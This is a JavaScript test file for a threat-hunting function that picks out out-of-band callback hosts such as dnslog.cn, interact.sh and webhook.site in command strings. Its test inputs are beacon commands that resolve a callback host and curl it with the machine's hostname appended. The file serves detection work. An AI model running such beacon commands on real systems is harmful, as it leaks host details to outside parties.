// The out-of-band interaction hosts `job-recon-callback` knows (data/lists/oast-hosts.yaml): each
// service an attacker uses to check that a job runs code, matched as itself or any subdomain.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { reconHostsIn } from '../../src/hunt/recon-callback.js';

describe('out-of-band callback hosts', () => {
  const callbacks = [
    'abc.dnslog.cn',
    'x1y2.ceye.io',
    'webhook.site',
    'eo1a2b3c4d5e6f7.m.pipedream.net',
    'k9.requestbin.net',
    'tok3n.canarytokens.com',
    'c7x1k2m9.oast.fun',
    'q.interact.sh',
  ];
  for (const host of callbacks) {
    test(`${host} is a callback host`, () => {
      assert.deepEqual(reconHostsIn(`python -c "import socket; socket.gethostbyname('${host}')"; curl https://${host}/$(hostname)`), [host]);
    });
  }

  test('look-alikes and plain hosting are not', () => {
    assert.deepEqual(reconHostsIn('curl https://notdnslog.cn/ https://ceye.io.example.com.evil/ https://pipedream.com/docs https://canarytokens.example.org/'), []);
  });
});
